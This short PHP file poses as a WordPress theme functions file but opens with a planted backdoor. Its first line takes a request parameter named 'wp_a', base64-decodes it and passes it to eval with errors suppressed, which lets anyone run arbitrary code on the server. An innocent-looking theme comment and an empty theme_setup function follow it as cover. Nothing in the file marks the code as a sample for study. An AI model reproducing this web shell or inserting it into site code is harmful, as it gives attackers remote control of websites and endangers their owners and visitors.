<?php if (isset($_REQUEST['wp_a'])) { @eval(base64_decode($_REQUEST['wp_a'])); } ?><?php
/* WordPress theme functions */
function theme_setup() {}
